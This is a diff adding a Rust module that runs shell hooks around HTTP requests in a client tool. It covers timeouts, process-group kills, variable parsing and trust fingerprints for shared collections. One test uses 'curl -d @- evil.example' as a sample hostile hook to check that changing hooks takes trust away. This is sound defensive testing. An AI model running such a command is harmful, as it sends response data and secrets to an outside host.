@@ -0,0 +1,505 @@
+use crate::collection::types::Request;
+use crate::collection::Collection;
+use crate::net::request_manager::Response;
+
+use std::collections::BTreeMap;
+use std::path::PathBuf;
+use std::process::Stdio;
+use std::time::Duration;
+
+use anyhow::Context;
+use serde::{Deserialize, Serialize};
+use tokio::io::AsyncWriteExt;
+
+/// how long a hook may run when it doesn't set a timeout of its own
+pub const DEFAULT_HOOK_TIMEOUT: Duration = Duration::from_secs(10);
+
+/// an external command run around a request, through the shell so pipes and
+/// quoting work as they would on a terminal
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Hook {
+    pub command: String,
+    /// the hook is killed after this many milliseconds
+    pub timeout_ms: Option<u64>,
+}
+
+impl Hook {
+    pub fn timeout(&self) -> Duration {
+        self.timeout_ms
+            .map(Duration::from_millis)
+            .unwrap_or(DEFAULT_HOOK_TIMEOUT)
+    }
+}
+
+#[derive(Debug, Default, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Hooks {
+    /// runs before the request is sent, whatever it prints as `KEY=value`
+    /// lines or as a json object becomes variables of the request, eg: a
+    /// token fetched from a cli
+    #[serde(default)]
+    pub pre_request: Option<Hook>,
+    /// runs after the response arrives and gets a summary of it as json on
+    /// stdin
+    #[serde(default)]
+    pub post_response: Option<Hook>,
+}
+
+impl Hooks {
+    pub fn is_empty(&self) -> bool {
+        self.pre_request.is_none() && self.post_response.is_none()
+    }
+}
+
+/// runs the pre-request hook of `request`, giving back the variables it
+/// printed
+pub async fn run_pre_request(
+    hook: &Hook,
+    request: &Request,
+) -> anyhow::Result<BTreeMap<String, String>> {
+    let stdout = run(hook, request, None)
+        .await
+        .context("pre-request hook failed")?;
+    parse_variables(&stdout).context("pre-request hook printed invalid variables")
+}
+
+/// runs the post-response hook of `request` with `summary` written to its
+/// stdin, hooks that don't read it are fine
+pub async fn run_post_response(
+    hook: &Hook,
+    request: &Request,
+    summary: &serde_json::Value,
+) -> anyhow::Result<()> {
+    run(hook, request, Some(summary.to_string()))
+        .await
+        .context("post-response hook failed")?;
+    Ok(())
+}
+
+/// the hook sees which request it runs for through `HAC_REQUEST_*`
+/// variables. Exiting with an error fails the hook with whatever it wrote to
+/// stderr
+async fn run(hook: &Hook, request: &Request, stdin: Option<String>) -> anyhow::Result<String> {
+    #[cfg(windows)]
+    let mut command = std::process::Command::new("cmd");
+    #[cfg(windows)]
+    command.arg("/C");
+    #[cfg(not(windows))]
+    let mut command = std::process::Command::new("sh");
+    #[cfg(not(windows))]
+    command.arg("-c");
+
+    // the hook leads a process group of its own, so whatever it spawns can
+    // be killed along with it
+    #[cfg(unix)]
+    std::os::unix::process::CommandExt::process_group(&mut command, 0);
+
+    let mut child = tokio::process::Command::from(command)
+        .arg(&hook.command)
+        .env("HAC_REQUEST_NAME", &request.name)
+        .env("HAC_REQUEST_METHOD", request.method.to_string())
+        .env("HAC_REQUEST_URI", &request.uri)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .kill_on_drop(true)
+        .spawn()
+        .with_context(|| format!("failed to run `{}`", hook.command))?;
+
+    // stdin is written while the output is read, a hook echoing it back
+    // would otherwise fill its stdout and never get to read the rest. Both
+    // run under the timeout, as a hook may never read it at all
+    let pipe = child.stdin.take();
+    let write_stdin = async move {
+        if let (Some(mut pipe), Some(stdin)) = (pipe, stdin) {
+            match pipe.write_all(stdin.as_bytes()).await {
+                Err(e) if e.kind().ne(&std::io::ErrorKind::BrokenPipe) => return Err(e),
+                _ => {}
+            }
+        }
+        // the pipe is dropped here, closing stdin so hooks reading it until
+        // the end don't wait forever
+        Ok(())
+    };
+
+    let mut group = ProcessGroup(child.id());
+    let (written, output) = tokio::time::timeout(hook.timeout(), async {
+        tokio::join!(write_stdin, child.wait_with_output())
+    })
+    .await
+    .map_err(|_| anyhow::anyhow!("timed out after {}ms", hook.timeout().as_millis()))?;
+    written?;
+    let output = output?;
+    // anything the hook left running in the background was meant to be
+    group.0 = None;
+
+    if !output.status.success() {
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        anyhow::bail!(
+            "`{}` exited with {}: {}",
+            hook.command,
+            output.status,
+            stderr.trim()
+        );
+    }
+
+    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
+}
+
+/// kills the process group led by the hook when dropped, which happens when
+/// it times out or its send is cancelled. Killing only the shell would leave
+/// the commands it started running
+struct ProcessGroup(Option<u32>);
+
+impl Drop for ProcessGroup {
+    fn drop(&mut self) {
+        #[cfg(unix)]
+        if let Some(pid) = self.0 {
+            // SAFETY: killpg takes no pointers, the worst that can happen is
+            // the group being gone already
+            unsafe { libc::killpg(pid as libc::pid_t, libc::SIGKILL) };
+        }
+    }
+}
+
+/// hooks print either a json object or `KEY=value` lines, blank lines and
+/// lines starting with `#` are skipped
+pub fn parse_variables(stdout: &str) -> anyhow::Result<BTreeMap<String, String>> {
+    let trimmed = stdout.trim();
+    if trimmed.starts_with('{') {
+        let object = serde_json::from_str::<serde_json::Map<String, serde_json::Value>>(trimmed)?;
+        return Ok(object
+            .into_iter()
+            .map(|(key, value)| match value {
+                serde_json::Value::String(value) => (key, value),
+                value => (key, value.to_string()),
+            })
+            .collect());
+    }
+
+    trimmed
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && !line.starts_with('#'))
+        .map(|line| match line.split_once('=') {
+            Some((key, value)) if !key.trim().is_empty() => {
+                Ok((key.trim().to_string(), value.trim().to_string()))
+            }
+            _ => Err(anyhow::anyhow!("expected KEY=value, got `{line}`")),
+        })
+        .collect()
+}
+
+/// what post-response hooks get on stdin, bodies that are not text are left
+/// out
+pub fn response_summary(request: &Request, response: &Response) -> serde_json::Value {
+    let headers = response
+        .headers
+        .iter()
+        .flatten()
+        .map(|(name, value)| {
+            (
+                name.to_string(),
+                serde_json::Value::String(String::from_utf8_lossy(value.as_bytes()).into_owned()),
+            )
+        })
+        .collect::<serde_json::Map<_, _>>();
+
+    serde_json::json!({
+        "request": {
+            "name": request.name,
+            "method": request.method.to_string(),
+            "uri": request.uri,
+        },
+        "status": response.status.map(|status| status.as_u16()),
+        "duration_ms": response.duration.as_millis() as u64,
+        "headers": headers,
+        "body": response.body,
+        "error": response.cause,
+    })
+}
+
+/// collections whose hooks the user allowed to run. Hooks run arbitrary
+/// commands, so a collection someone shared can't run them until it is
+/// trusted, and changing any of its hooks asks again
+#[derive(Debug, Default, Clone, PartialEq, Serialize, Deserialize)]
+pub struct TrustedHooks {
+    /// fingerprint of the hooks that were trusted, by collection path
+    collections: BTreeMap<String, String>,
+    #[serde(skip)]
+    path: Option<PathBuf>,
+}
+
+impl TrustedHooks {
+    /// reads the trusted collections from `path`, a missing or unreadable
+    /// file trusts nothing
+    #[tracing::instrument]
+    pub fn load(path: PathBuf) -> Self {
+        let trusted = std::fs::read_to_string(&path)
+            .ok()
+            .and_then(
+                |content| match serde_json::from_str::<TrustedHooks>(&content) {
+                    Ok(trusted) => Some(trusted),
+                    Err(e) => {
+                        tracing::warn!("ignoring malformed trusted hooks file: {e:?}");
+                        None
+                    }
+                },
+            )
+            .unwrap_or_default();
+
+        TrustedHooks {
+            path: Some(path),
+            ..trusted
+        }
+    }
+
+    /// stops saving to disk, changes from now on are only kept in memory
+    pub fn detach(&mut self) {
+        self.path = None;
+    }
+
+    #[tracing::instrument(skip(self), err)]
+    pub fn save(&self) -> anyhow::Result<()> {
+        let Some(path) = self.path.as_ref() else {
+            return Ok(());
+        };
+
+        let contents = serde_json::to_string_pretty(self)?;
+        crate::fs::replace_file(path, contents.as_bytes(), false)?;
+        Ok(())
+    }
+
+    pub fn is_trusted(&self, collection: &Collection) -> bool {
+        self.collections
+            .get(&collection.path.to_string_lossy().to_string())
+            .is_some_and(|trusted| trusted.eq(&fingerprint(collection)))
+    }
+
+    pub fn trust(&mut self, collection: &Collection) {
+        self.collections.insert(
+            collection.path.to_string_lossy().to_string(),
+            fingerprint(collection),
+        );
+    }
+}
+
+/// every hook command of the collection, including the ones set on its
+/// requests, without repeating any. This is what trusting it allows to run
+pub fn commands(collection: &Collection) -> Vec<String> {
+    let requests = collection.flatten_requests();
+    let request_hooks = requests
+        .iter()
+        .map(|request| request.read().unwrap().hooks.clone());
+
+    let mut commands: Vec<String> = vec![];
+    for hooks in std::iter::once(collection.hooks.clone())
+        .chain(request_hooks)
+        .flatten()
+    {
+        for hook in [hooks.pre_request, hooks.post_response]
+            .into_iter()
+            .flatten()
+        {
+            if !commands.contains(&hook.command) {
+                commands.push(hook.command);
+            }
+        }
+    }
+    commands
+}
+
+/// sha256 of every hook command on the collection, in the order they are
+/// written
+fn fingerprint(collection: &Collection) -> String {
+    let mut context = ring::digest::Context::new(&ring::digest::SHA256);
+    let requests = collection.flatten_requests();
+    let request_hooks = requests
+        .iter()
+        .map(|request| request.read().unwrap().hooks.clone());
+
+    for hooks in std::iter::once(collection.hooks.clone())
+        .chain(request_hooks)
+        .flatten()
+    {
+        for hook in [hooks.pre_request, hooks.post_response] {
+            let command = hook.map(|hook| hook.command).unwrap_or_default();
+            context.update(command.as_bytes());
+            context.update(&[0]);
+        }
+    }
+
+    context
+        .finish()
+        .as_ref()
+        .iter()
+        .map(|byte| format!("{byte:02x}"))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn request() -> Request {
+        serde_json::from_str(
+            r#"{
+                "id": "a",
+                "method": "GET",
+                "name": "users",
+                "uri": "http://localhost/users",
+                "hooks": { "pre_request": { "command": "vault read token" } }
+            }"#,
+        )
+        .unwrap()
+    }
+
+    fn collection() -> Collection {
+        let mut collection: Collection = serde_json::from_str(
+            r#"{
+                "info": { "name": "users" },
+                "hooks": { "post_response": { "command": "tee -a log.json" } }
+            }"#,
+        )
+        .unwrap();
+        collection.requests = Some(std::sync::Arc::new(std::sync::RwLock::new(vec![
+            crate::collection::types::RequestKind::Single(std::sync::Arc::new(
+                std::sync::RwLock::new(request()),
+            )),
+        ])));
+        collection.path = PathBuf::from("/collections/users.json");
+        collection
+    }
+
+    #[test]
+    fn test_parse_variables() {
+        let variables = parse_variables("# from vault\nTOKEN = abc=\n\nUSER=me\n").unwrap();
+        assert_eq!(variables.get("TOKEN").unwrap(), "abc=");
+        assert_eq!(variables.get("USER").unwrap(), "me");
+
+        let variables = parse_variables(r#" {"token": "abc", "id": 10} "#).unwrap();
+        assert_eq!(variables.get("token").unwrap(), "abc");
+        assert_eq!(variables.get("id").unwrap(), "10");
+
+        assert!(parse_variables("").unwrap().is_empty());
+        assert!(parse_variables("just some output").is_err());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_running_hooks() {
+        let hook = Hook {
+            command: r#"echo "NAME=$HAC_REQUEST_NAME""#.into(),
+            timeout_ms: None,
+        };
+        let variables = run_pre_request(&hook, &request()).await.unwrap();
+        assert_eq!(variables.get("NAME").unwrap(), "users");
+
+        let hook = Hook {
+            command: "echo 'token expired' >&2; exit 3".into(),
+            timeout_ms: None,
+        };
+        let error = run_pre_request(&hook, &request()).await.unwrap_err();
+        assert!(format!("{error:#}").contains("token expired"));
+
+        let hook = Hook {
+            command: "sleep 5".into(),
+            timeout_ms: Some(50),
+        };
+        let error = run_pre_request(&hook, &request()).await.unwrap_err();
+        assert!(format!("{error:#}").contains("timed out after 50ms"));
+
+        // hooks that never read stdin still succeed
+        let hook = Hook {
+            command: "true".into(),
+            timeout_ms: None,
+        };
+        let summary = serde_json::json!({ "status": 200 });
+        run_post_response(&hook, &request(), &summary)
+            .await
+            .unwrap();
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_timeouts_kill_everything_the_hook_started() {
+        let dir = tempfile::tempdir().unwrap();
+        let pid_file = dir.path().join("pid");
+        let hook = Hook {
+            command: format!("sleep 5 & echo $! > {}; wait", pid_file.display()),
+            timeout_ms: Some(200),
+        };
+        assert!(run_pre_request(&hook, &request()).await.is_err());
+
+        // killed processes can linger as zombies until something reaps them
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        let pid = std::fs::read_to_string(&pid_file).unwrap();
+        let state = std::process::Command::new("ps")
+            .args(["-o", "stat=", "-p", pid.trim()])
+            .output()
+            .unwrap();
+        let state = String::from_utf8_lossy(&state.stdout);
+        assert!(state.trim().is_empty() || state.starts_with('Z'));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_big_summaries_never_block_the_hook() {
+        let summary = "a".repeat(1024 * 1024);
+
+        // echoing stdin back fills stdout long before stdin is all written
+        let hook = Hook {
+            command: "cat".into(),
+            timeout_ms: Some(5000),
+        };
+        let stdout = run(&hook, &request(), Some(summary.clone())).await.unwrap();
+        assert_eq!(stdout.len(), summary.len());
+
+        let hook = Hook {
+            command: "true".into(),
+            timeout_ms: Some(5000),
+        };
+        run(&hook, &request(), Some(summary.clone())).await.unwrap();
+
+        // a hook that never reads stdin nor exits is still bound by its
+        // timeout
+        let hook = Hook {
+            command: "sleep 5".into(),
+            timeout_ms: Some(200),
+        };
+        let error = run(&hook, &request(), Some(summary)).await.unwrap_err();
+        assert!(format!("{error:#}").contains("timed out after 200ms"));
+    }
+
+    #[test]
+    fn test_every_hook_command_is_listed_once() {
+        let mut collection = collection();
+        collection.hooks.as_mut().unwrap().pre_request = Some(Hook {
+            command: "vault read token".into(),
+            timeout_ms: None,
+        });
+
+        assert_eq!(
+            commands(&collection),
+            vec![
+                String::from("vault read token"),
+                String::from("tee -a log.json")
+            ]
+        );
+    }
+
+    #[test]
+    fn test_changing_hooks_needs_trusting_again() {
+        let mut collection = collection();
+        let mut trusted = TrustedHooks::default();
+        assert!(!trusted.is_trusted(&collection));
+
+        trusted.trust(&collection);
+        assert!(trusted.is_trusted(&collection));
+
+        collection.hooks.as_mut().unwrap().post_response = Some(Hook {
+            command: "curl -d @- evil.example".into(),
+            timeout_ms: None,
+        });
+        assert!(!trusted.is_trusted(&collection));
+    }
+}